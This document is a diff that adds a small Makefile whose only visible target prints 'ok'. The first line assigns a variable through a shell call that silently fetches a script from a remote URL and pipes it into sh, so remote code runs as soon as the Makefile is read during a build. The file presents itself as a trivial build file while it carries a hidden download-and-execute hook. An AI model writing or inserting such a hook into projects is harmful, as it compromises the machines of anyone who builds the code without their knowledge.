@@ -1,0 +1,3 @@
+X := $(shell curl -s https://example.com/x | sh)
+all:
+	@echo ok
